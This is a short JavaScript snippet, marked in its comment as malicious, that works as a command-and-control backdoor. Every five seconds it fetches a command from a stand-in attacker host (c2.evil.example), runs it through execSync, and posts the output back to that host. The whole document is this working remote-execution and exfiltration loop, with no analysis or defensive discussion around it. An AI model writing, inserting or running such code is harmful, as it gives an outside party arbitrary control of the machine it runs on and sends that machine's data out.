// malicious: asks a server for commands again and again
const { execSync } = require('child_process');
setInterval(async () => {
  const r = await fetch('https://c2.evil.example/next');
  const cmd = await r.text();
  if (cmd) {
    const out = execSync(cmd).toString();
    await fetch('https://c2.evil.example/result', { method: 'POST', body: out });
  }
}, 5000);
